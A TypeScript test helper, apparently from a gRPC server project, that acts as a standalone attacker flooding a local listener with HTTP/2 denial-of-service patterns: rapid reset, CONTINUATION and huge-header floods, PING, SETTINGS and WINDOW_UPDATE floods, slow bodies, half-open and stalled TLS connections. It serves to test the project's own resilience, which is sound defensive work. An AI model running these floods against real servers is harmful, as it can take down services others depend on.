/**
 * An attacker: `node test/fakes/flood.ts JSON` floods one listener of this machine until its time is over and prints what it did as
 * JSON. A program of its own, without imports from the project, so that it takes no time from whoever measures.
 */
import { connect as connectTcp, type Socket } from "node:net";
import { connect as connectTls, type TLSSocket } from "node:tls";

/** What a flood is made of. */
export interface FloodOptions {
  readonly kind: FloodKind;
  /** "127.0.0.1:port". */
  readonly address: string;
  readonly seconds: number;
  /** At once. */
  readonly connections: number;
  /** Calls or frames at once on each connection. */
  readonly perConnection?: number;
  /** Path of the rpc, for floods of calls. */
  readonly path?: string;
  /** Request, base64. */
  readonly body?: string;
  readonly key?: string;
  readonly cert?: string;
  readonly localAddress?: string;
}

/** What an attacker can do. */
export type FloodKind =
  | "connects"
  | "half-open"
  | "client-hello"
  | "handshakes"
  | "rapid-reset"
  | "ping"
  | "settings"
  | "window-update"
  | "priority"
  | "unknown-frame"
  | "continuation"
  | "huge-headers"
  | "calls"
  | "watches"
  | "slow-body"
  | "never-reads";

/** What came of it. */
export interface FloodResult {
  /** Connections that were opened. */
  opened: number;
  /** Those that ended before the flood did. */
  closed: number;
  /** Frames or calls sent. */
  sent: number;
  /** Calls that ended, by grpc-status; "reset": without one. */
  ended: Record<string, number>;
}

const type = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  goaway: 7,
  window: 8,
  continuation: 9,
};
const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

/** One HTTP/2 frame (RFC 9113, section 4.1). */
export function frame(kind: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(kind, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** Headers as literals that are not indexed (RFC 7541, section 6.2.2). */
export function literalHeaders(headers: Readonly<Record<string, string>>): Buffer {
  const text = (value: string): Buffer => {
    const bytes = Buffer.from(value, "latin1");
    if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
    const prefix = [127];
    let rest = bytes.length - 127;
    for (; rest >= 128; rest = Math.floor(rest / 128)) prefix.push((rest % 128) + 128);
    return Buffer.concat([Buffer.from([...prefix, rest]), bytes]);
  };
  return Buffer.concat(Object.entries(headers).flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]));
}

/** The headers of a gRPC call. */
export function callHeaders(path: string): Record<string, string> {
  return {
    ":method": "POST",
    ":scheme": "https",
    ":path": path,
    ":authority": "hub.zor",
    "content-type": "application/grpc",
    te: "trailers",
  };
}

/** A message with its gRPC framing. */
export function framed(message: Buffer): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

class Flood {
  readonly result: FloodResult = { opened: 0, closed: 0, sent: 0, ended: {} };
  readonly #options: FloodOptions;
  readonly #endMs: number;
  readonly #path: string;
  readonly #body: Buffer;
  readonly #sockets = new Set<Socket>();

  constructor(options: FloodOptions) {
    this.#options = options;
    this.#endMs = performance.now() + options.seconds * 1000;
    this.#path = options.path ?? "/zor.v1.HostService/ListHosts";
    this.#body = framed(Buffer.from(options.body ?? "", "base64"));
  }

  async run(): Promise<FloodResult> {
    for (let index = 0; index < this.#options.connections; index += 1) this.#open();
    await new Promise((resolve) => setTimeout(resolve, this.#options.seconds * 1000));
    for (const socket of this.#sockets) socket.destroy();
    return this.result;
  }

  get #over(): boolean {
    return performance.now() >= this.#endMs;
  }

  #open(): void {
    if (this.#over) return;
    const { kind, address, key, cert, localAddress } = this.#options;
    const at = address.lastIndexOf(":");
    const to = {
      host: address.slice(0, at),
      port: Number(address.slice(at + 1)),
      ...(localAddress === undefined ? {} : { localAddress }),
    };
    const isPlain = kind === "connects" || kind === "half-open" || kind === "client-hello";
    const socket = isPlain
      ? connectTcp(to)
      : connectTls({
          ...to,
          servername: "hub.zor",
          ALPNProtocols: ["h2"],
          minVersion: "TLSv1.3",
          rejectUnauthorized: false,
          ...(key === undefined || cert === undefined ? {} : { key, cert }),
        });
    this.#sockets.add(socket);
    socket.setNoDelay(true);
    let opened = false;
    socket.on(isPlain ? "connect" : "secureConnect", () => {
      opened = true;
      this.result.opened += 1;
      this.#attack(socket);
    });
    socket.on("error", () => undefined);
    socket.on("close", () => {
      this.#sockets.delete(socket);
      if (this.#over) return;
      if (opened) this.result.closed += 1;
      setTimeout(() => this.#open(), opened ? 0 : 5);
    });
  }

  #attack(socket: Socket): void {
    const { kind } = this.#options;
    if (kind === "connects" || kind === "handshakes") {
      socket.destroy();
      return;
    }
    if (kind === "half-open") return;
    if (kind === "client-hello") {
      socket.write(clientHello());
      return;
    }
    const never = kind === "never-reads";
    const settings = never ? Buffer.from([0, 4, 0, 0, 0, 0]) : Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff]);
    socket.write(Buffer.concat([preface, frame(type.settings, 0, 0, settings)]));
    if (!never) socket.write(frame(type.window, 0, 0, Buffer.from([0x7f, 0, 0, 0])));
    const session = new Session(socket, this.result, never);
    this.#drive(socket as TLSSocket, session);
  }

  #drive(socket: TLSSocket, session: Session): void {
    const count = this.#options.perConnection ?? 100;
    const headers = literalHeaders(callHeaders(this.#path));
    const pour = (make: () => Buffer): void => {
      const step = (): void => {
        if (this.#over || socket.destroyed) return;
        const more = socket.write(make());
        if (more) setImmediate(step);
        else socket.once("drain", step);
      };
      step();
    };
    const batch = (make: () => Buffer, size: number): Buffer => {
      this.result.sent += size;
      return Buffer.concat(Array.from({ length: size }, make));
    };
    switch (this.#options.kind) {
      case "rapid-reset":
        pour(() =>
          batch(() => {
            const id = session.nextId();
            return Buffer.concat([
              frame(type.headers, 4, id, headers),
              frame(type.data, 1, id, this.#body),
              frame(type.reset, 0, id, Buffer.from([0, 0, 0, 8])),
            ]);
          }, count),
        );
        return;
      case "ping":
        pour(() => batch(() => frame(type.ping, 0, 0, Buffer.alloc(8)), count));
        return;
      case "settings":
        pour(() => batch(() => frame(type.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])), count));
        return;
      case "window-update":
        pour(() => batch(() => frame(type.window, 0, 0, Buffer.from([0, 0, 0, 0 + 1])), count));
        return;
      case "priority":
        pour(() => batch(() => frame(type.priority, 0, 1, Buffer.from([0, 0, 0, 3, 1])), count));
        return;
      case "unknown-frame":
        pour(() => batch(() => frame(0xbe, 0, 0, Buffer.alloc(16)), count));
        return;
      case "continuation": {
        socket.write(frame(type.headers, 0, session.nextId(), headers));
        const piece = literalHeaders({ x: "y".repeat(4000) });
        pour(() => batch(() => frame(type.continuation, 0, session.lastId, piece), 4));
        return;
      }
      case "huge-headers": {
        const large = literalHeaders({ ...callHeaders(this.#path), "x-large": "y".repeat(15_000) });
        pour(() => batch(() => frame(type.headers, 5, session.nextId(), large), 4));
        return;
      }
      case "slow-body":
        for (let index = 0; index < count; index += 1) {
          const id = session.nextId();
          this.result.sent += 1;
          socket.write(Buffer.concat([frame(type.headers, 4, id, headers), frame(type.data, 0, id, Buffer.from([0]))]));
        }
        return;
      case "calls": {
        const call = (): void => {
          if (this.#over || socket.destroyed) return;
          this.result.sent += 1;
          const id = session.nextId();
          socket.write(Buffer.concat([frame(type.headers, 4, id, headers), frame(type.data, 1, id, this.#body)]));
        };
        session.onEnded = call;
        for (let index = 0; index < count; index += 1) call();
        return;
      }
      case "watches":
      case "never-reads":
        for (let index = 0; index < count; index += 1) {
          const id = session.nextId();
          this.result.sent += 1;
          socket.write(Buffer.concat([frame(type.headers, 4, id, headers), frame(type.data, 1, id, this.#body)]));
        }
        return;
      default:
        socket.destroy();
    }
  }
}

/** The least of an HTTP/2 client: answers PINGs and SETTINGS, counts how calls end. */
class Session {
  onEnded: () => void = () => undefined;
  #id = -1;
  #rest: Buffer = Buffer.alloc(0);
  readonly #socket: Socket;
  readonly #result: FloodResult;
  readonly #never: boolean;

  constructor(socket: Socket, result: FloodResult, never: boolean) {
    this.#socket = socket;
    this.#result = result;
    this.#never = never;
    socket.on("data", (chunk: Buffer) => this.#read(chunk));
  }

  get lastId(): number {
    return this.#id;
  }

  nextId(): number {
    this.#id += 2;
    return this.#id;
  }

  #read(chunk: Buffer): void {
    this.#rest = this.#rest.length === 0 ? chunk : Buffer.concat([this.#rest, chunk]);
    let read = 0;
    while (this.#rest.length >= 9) {
      const length = this.#rest.readUIntBE(0, 3);
      if (this.#rest.length < 9 + length) break;
      const [kind = 0, flags = 0] = [this.#rest[3], this.#rest[4]];
      const payload = this.#rest.subarray(9, 9 + length);
      this.#rest = this.#rest.subarray(9 + length);
      if (kind === type.ping && (flags & 1) === 0) this.#socket.write(frame(type.ping, 1, 0, payload));
      if (kind === type.settings && (flags & 1) === 0) this.#socket.write(frame(type.settings, 1, 0));
      if (kind === type.data) read += length;
      if (kind === type.headers && (flags & 1) === 1) this.#ended(statusOf(payload));
      if (kind === type.reset) this.#ended("reset");
    }
    // Streams were given the largest window; only that of the connection is to be refilled.
    if (read > 0 && !this.#never) {
      const more = Buffer.alloc(4);
      more.writeUInt32BE(read);
      this.#socket.write(frame(type.window, 0, 0, more));
    }
  }

  #ended(how: string): void {
    this.#result.ended[how] = (this.#result.ended[how] ?? 0) + 1;
    this.onEnded();
  }
}

/** Trailers are compressed; nobody here reads more of them than that they came. */
function statusOf(payload: Buffer): string {
  return payload.length === 0 ? "none" : "trailers";
}

/** A TLS record that begins a handshake and says no more than its header. */
function clientHello(): Buffer {
  return Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]);
}

const [, program = "", argument] = process.argv;
if (program.endsWith("flood.ts") && argument !== undefined) {
  // Only the one who started it knows the options.
  const options = JSON.parse(argument) as FloodOptions;
  process.stdout.write(`${JSON.stringify(await new Flood(options).run())}\n`);
  process.exit(0);
}
